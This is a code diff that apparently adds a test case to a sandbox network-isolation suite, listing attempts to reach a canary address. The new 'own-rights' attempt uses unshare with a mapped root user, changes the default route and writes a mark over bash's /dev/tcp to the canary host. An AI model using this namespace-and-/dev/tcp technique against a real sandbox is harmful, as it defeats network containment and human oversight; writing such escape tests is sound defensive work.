@@ -97,6 +97,15 @@ export const DIRECT: readonly Attempt[] = [
   { name: 'ping-v4', make: () => program('ping', ['-c1', '-W1', CANARY.v4]) },
   { name: 'ping-v6', make: () => program('ping', ['-c1', '-W1', CANARY.v6]) },
   { name: 'shell', make: (mark) => program('bash', saidByShell(CANARY.v4, mark).slice(1)) },
+  // In a user namespace of its own a process has every right, but not over the network it is in.
+  {
+    name: 'own-rights',
+    make: (mark) =>
+      program('unshare', [
+        ...['--user', '--map-root-user', 'bash', '-c'],
+        `ip route add default dev lo; echo ${mark} >/dev/tcp/${CANARY.v4}/80`,
+      ]),
+  },
   { name: 'socket-file', make: (mark, { socketPath }) => say({ path: socketPath }, mark) },
   { name: 'socket-abstract', make: (mark, { abstractName }) => say({ path: `\0${abstractName}` }, mark) },
   {
